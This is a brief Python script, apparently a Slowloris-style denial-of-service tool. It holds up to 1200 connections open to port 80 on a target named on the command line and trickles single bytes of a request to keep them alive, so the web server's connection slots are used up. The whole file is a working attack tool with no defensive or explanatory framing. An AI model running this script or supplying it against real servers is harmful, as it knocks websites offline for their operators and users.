"""Hold as many connections to port 80 as it gets, and send a byte of a request now and then."""

import socket
import sys
import time

held: list[socket.socket] = []
while True:
    while len(held) < 1200:
        try:
            held.append(socket.create_connection((sys.argv[1], 80), 1))
        except OSError:
            break
    for each in held[:]:
        try:
            each.send(b"G")
        except OSError:
            held.remove(each)
    time.sleep(0.2)
